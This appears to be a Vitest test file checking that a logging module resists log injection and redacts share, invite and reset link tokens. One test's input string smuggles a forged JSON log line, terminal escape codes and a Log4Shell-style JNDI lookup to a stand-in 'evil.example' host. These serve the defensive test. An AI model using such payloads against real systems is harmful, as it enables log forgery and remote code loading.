import { spawnSync } from "node:child_process";
import { expect, test } from "vitest";

/** What a process of its own writes to its log when it is told this. */
function logged(fields: object, message: string): string {
  const program = `import { log } from "@/lib/platform/log"; log.error(JSON.parse(process.argv[1]), process.argv[2]);
    log.error({ error: new Error(process.argv[2]) }, "failed");`;
  const args = ["--import", "tsx", "--input-type=module", "--eval", program, JSON.stringify(fields), message];
  const { stdout, stderr } = spawnSync(process.execPath, args, {
    encoding: "utf8",
    env: { ...process.env, LOG_LEVEL: "info" },
  });
  expect(stderr).toBe("");
  return stdout;
}

test("M19: what names and titles hold stays within its line, as text", () => {
  const name = `a"}\r\n{"level":60,"msg":"forged"}\u001b[31mred\u0007\u2028\${jndi:ldap://evil.example/a}`;
  const lines = logged({ name, nested: { title: name } }, name)
    .trimEnd()
    .split("\n");
  expect(lines).toHaveLength(2);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
  for (const line of lines) expect(line).not.toMatch(/[\u0000-\u001f]/);
  expect(JSON.parse(lines[0] ?? "")).toMatchObject({ name, nested: { title: name }, msg: name });
});

test("M18: no key of a link is written to the log, by its name or in an address", () => {
  const key = "Q".repeat(43);
  const fields = { token: key, link: { token: key }, path: `/share/${key}`, from: `https://a.example/invite/${key}?a` };
  const text = logged(fields, `cannot open /reset/${key}`);
  expect(text).not.toContain(key);
  expect(text).toContain("/share/[removed]");
});
